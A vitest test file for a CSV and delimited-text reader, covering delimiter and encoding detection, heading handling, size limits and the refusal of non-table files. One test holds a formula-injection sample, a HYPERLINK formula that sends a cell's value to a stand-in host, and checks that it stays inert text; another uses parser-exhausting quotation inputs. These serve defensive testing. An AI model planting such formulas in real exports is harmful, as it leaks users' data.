import { describe, expect, it } from 'vitest';
import { codes, read, refusal, rowsOf, utf8 } from '../../../../tests/support/tables.ts';

const utf16 = (text: string, big = false) => {
	const bytes = new Uint8Array(text.length * 2);
	const view = new DataView(bytes.buffer);
	for (let i = 0; i < text.length; i++) view.setUint16(i * 2, text.charCodeAt(i), !big);
	return bytes;
};

describe('delimited text', () => {
	it('finds the delimiter', async () => {
		for (const delimiter of [',', ';', '\t', '|']) {
			const text = ['Key', 'Name', 'Visits'].join(delimiter) + `\n1${delimiter}A${delimiter}2\n`;
			const { table, source } = await read(text);
			expect(source.delimiter).toBe(delimiter);
			expect(rowsOf(table)).toEqual([['1', 'A', '2']]);
		}
	});

	it('does not take decimal commas for delimiters', async () => {
		const { table, source } = await read('Key;A;B\nx;1,5;2,5\ny;3,25;4,5\n');
		expect(source).toMatchObject({ delimiter: ';', decimal: ',' });
		expect(rowsOf(table)[0]).toEqual(['x', '1,5', '2,5']);
	});

	it('takes the delimiter a first line names', async () => {
		const { table, source } = await read('sep=|\r\nKey|Name, first; last\r\n1|A, B; C\r\n');
		expect(source.delimiter).toBe('|');
		expect(table.headings).toEqual(['Key', 'Name, first; last']);
		expect([table.headingRow, table.firstRow]).toEqual([2, 3]);
	});

	it('finds the encoding', async () => {
		const text = 'Key,Name\n1,Œuvre Šx\n';
		const latin = Uint8Array.from([...'Key,Name\n1,'].map((c) => c.charCodeAt(0)));
		const legacy = Uint8Array.from([
			...latin,
			0x8c,
			0x75,
			0x76,
			0x72,
			0x65,
			0x20,
			0x8a,
			0x78,
			0x0a,
		]);
		const files: [string, Uint8Array][] = [
			['utf-8', utf8(text)],
			['utf-8', utf8(`\ufeff${text}`)],
			['utf-16le', utf16(`\ufeff${text}`)],
			['utf-16be', utf16(`\ufeff${text}`, true)],
			['utf-16le', utf16(text.repeat(1))],
			['windows-1252', legacy],
		];
		for (const [encoding, bytes] of files) {
			const { table, source } = await read(bytes);
			expect(source.encoding).toBe(encoding);
			expect(table.headings).toEqual(['Key', 'Name']);
			expect(table.cells[1]).toEqual(['Œuvre Šx']);
			expect(codes(source).includes('encoding-guessed')).toBe(encoding === 'windows-1252');
		}
	});

	it('takes an encoding that is told, and refuses one that does not exist', async () => {
		const bytes = Uint8Array.from([...utf8('Key,Name\n1,'), 0xb1, 0x0a]);
		expect((await read(bytes, { encoding: 'iso-8859-2' })).table.cells[1]).toEqual(['ą']);
		expect(await refusal(bytes, { encoding: 'klingon' })).toBe('unknown-encoding');
	});

	it('reads files longer than a piece, cut anywhere', async () => {
		const lines = Array.from(
			{ length: 60_000 },
			(_, i) => `${i},"Näme ""${i}""\r\nline two",${i / 4}`,
		);
		const { table, source } = await read(`Key,Name,Visits\r\n${lines.join('\r\n')}`);
		expect(table.rows).toBe(60_000);
		expect(table.cells[1].every((name, i) => name === `Näme "${i}"\r\nline two`)).toBe(true);
		expect(table.cells[2][59_999]).toBe('14999.75');
		expect(source.notes).toEqual([]);
	});

	it('makes mixed line ends one', async () => {
		const { table } = await read('Key,Visits\r\n1,2\n"3",4\r\n"5","6"\r7,8');
		expect(rowsOf(table)).toEqual([
			['1', '2'],
			['3', '4'],
			['5', '6'],
			['7', '8'],
		]);
	});

	it('tells ragged rows and keeps their cells', async () => {
		const { table, source } = await read('Key,Visits\n1,2\n2,3,rest\n3\n');
		expect(table.headings).toEqual(['Key', 'Visits', 'Column 3']);
		expect(rowsOf(table)).toEqual([
			['1', '2', null],
			['2', '3', 'rest'],
			['3', null, null],
		]);
		expect(source.notes).toMatchObject([{ code: 'rows-long', row: 3 }]);
	});

	it('tells quotation marks that go wrong', async () => {
		const stray = await read('Key,Name\n1,"A"b\n2,C\n3,"D"\n');
		expect(stray.source.notes).toMatchObject([{ code: 'quote-stray', row: 2 }]);
		const open = await read('Key,Name\n1,A\n2,"B\n3,C\n');
		expect(open.source.notes).toMatchObject([{ code: 'quote-open', severity: 'error', row: 3 }]);
		const limits = { rowCharacters: 1000 };
		expect(await refusal(`Key,Name\n1,"${'x\n'.repeat(2_000_000)}`, { limits })).toBe(
			'row-too-long',
		);
	});

	it('keeps formulas as inert text', async () => {
		const formula = '=HYPERLINK("http://example.org/?"&A1,"x")';
		const { table } = await read(`Key,Name\n1,"${formula.replaceAll('"', '""')}"\n2,@SUM(A1)\n`);
		expect(table.cells[1]).toEqual([formula, '@SUM(A1)']);
	});
});

describe('the heading', () => {
	it('is found below titles and blank rows', async () => {
		const text =
			'Visits of the field;;\nas of 1 May;;\n;;\nKey;Name;Visits\n;;\n1;A;2\n;;\n2;B;3\n;;\n';
		const { table, source } = await read(text);
		expect(table).toMatchObject({ headingRow: 4, firstRow: 6, rows: 2, fileRows: [6, 8] });
		expect(table.headings).toEqual(['Key', 'Name', 'Visits']);
		expect(codes(source)).toEqual(['rows-above']);
	});

	it('of two rows is made one, as merged cells leave it', async () => {
		const text = ';;Visits;;Potential;\nKey;Name;2025;2026;EUR;h\n1;A;5.5;6;7;8\n2;B;5;6;7.25;8\n';
		const { table, source } = await read(text);
		expect(table.headings).toEqual([
			'Key',
			'Name',
			'Visits, 2025',
			'Visits, 2026',
			'Potential, EUR',
			'Potential, h',
		]);
		expect(table).toMatchObject({ headingRow: 1, firstRow: 3, rows: 2 });
		expect(codes(source)).toContain('heading-merged');
	});

	it('of two rows with keys on top is made one too', async () => {
		const { table } = await read('Key,Name,Visits,,Hours\n,,north,south,\n1,A,5,6,7\n2,B,5,6,7\n');
		expect(table.headings).toEqual(['Key', 'Name', 'Visits, north', 'Visits, south', 'Hours']);
		expect(table.rows).toBe(2);
	});

	it('of one row with an unnamed column swallows no data', async () => {
		const { table, source } = await read('Key,,Visits,Name\n1,5,6,A\n2,5,6,B\n');
		expect(table.headings).toEqual(['Key', 'Column 2', 'Visits', 'Name']);
		expect(table.rows).toBe(2);
		expect(source.notes).toEqual([]);
	});

	it('can be told, or that there is none', async () => {
		const text = 'a,b\nKey,Visits\n1,2\n';
		expect((await read(text, { headingRow: 2 })).table.headings).toEqual(['Key', 'Visits']);
		expect(await refusal(text, { headingRow: 9 })).toBe('no-such-row');
		const none = await read('1,2\n3,4\n', { headingRow: 0 });
		expect(none.table).toMatchObject({
			headings: ['Column 1', 'Column 2'],
			rows: 2,
			headingRow: 0,
		});
		expect(codes((await read('1,2.5\n3,4\n')).source)).toContain('heading-numbers');
	});

	it('names alike are told apart', async () => {
		const { table, source } = await read('Key,Visits,Visits,Visits (2)\n1,2,3,4\n');
		expect(table.headings).toEqual(['Key', 'Visits', 'Visits (3)', 'Visits (2)']);
		expect(codes(source)).toContain('headings-alike');
	});
});

describe('what is no table', () => {
	it('is refused with a sentence', async () => {
		const old = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
		const locked = Uint8Array.from([...old, ...utf16('EncryptedPackage')]);
		const cases: [string, string | Uint8Array][] = [
			['empty-file', ''],
			['no-rows', '\ufeff'],
			['no-rows', '\n\n ; ;\n'],
			['no-rows', 'Key,Visits\n\n'],
			['old-workbook', old],
			['encrypted', locked],
			['web-page', '<html><table><tr><td>1</td></tr></table></html>'],
			['web-page', '\ufeff\n <!DOCTYPE HTML><html></html>'],
			['xml', '<?xml version="1.0"?><Workbook/>'],
			['not-text', '%PDF-1.7 ...'],
			['not-text', Uint8Array.from({ length: 4000 }, (_, i) => (i * 7919) % 32)],
		];
		for (const [code, file] of cases) expect(await refusal(file)).toBe(code);
	});

	it('is refused where it is too large, and never cut off', async () => {
		const rows = (count: number) => `Key,A,B\n${'1,2,3\n'.repeat(count)}`;
		expect(await refusal(rows(11), { limits: { rows: 10 } })).toBe('too-many-rows');
		expect((await read(rows(10), { limits: { rows: 10 } })).table.rows).toBe(10);
		expect(await refusal(rows(1), { limits: { columns: 2 } })).toBe('too-many-columns');
		expect(await refusal(rows(10), { limits: { cells: 30 } })).toBe('too-many-cells');
		expect(await refusal(rows(10), { limits: { fileBytes: 30 } })).toBe('file-too-large');
		expect(await refusal(`${'a,'.repeat(500)}a\n${'1,'.repeat(500)}1\n`)).toBe('too-many-columns');
	});

	it('is refused before hostile quotation marks keep the parser busy', async () => {
		const marks = `Key,Name\n1,"${'a"'.repeat(300_000)}`;
		expect(await refusal(`${marks}${' '.repeat(300_000)}\n`)).toBe('blanks-too-many');
		expect(await refusal(`${marks}${`b"${' '.repeat(1500)}`.repeat(100)}\n`)).toBe('quotes-broken');
	});

	it('names an option that cannot be', async () => {
		expect(await refusal('a,b\n1,2\n', { delimiter: 'ab' })).toBe('bad-option');
	});
});

it('reads 200,000 rows of text', async () => {
	const lines = Array.from({ length: 200_000 }, (_, i) => `${i};"Region; ${i}";${i},5;x;y;z`);
	const { table } = await read(`Key;Name;Visits;a;b;c\n${lines.join('\n')}\n`);
	expect(table.rows).toBe(200_000);
	expect(table.cells[1][199_999]).toBe('Region; 199999');
});
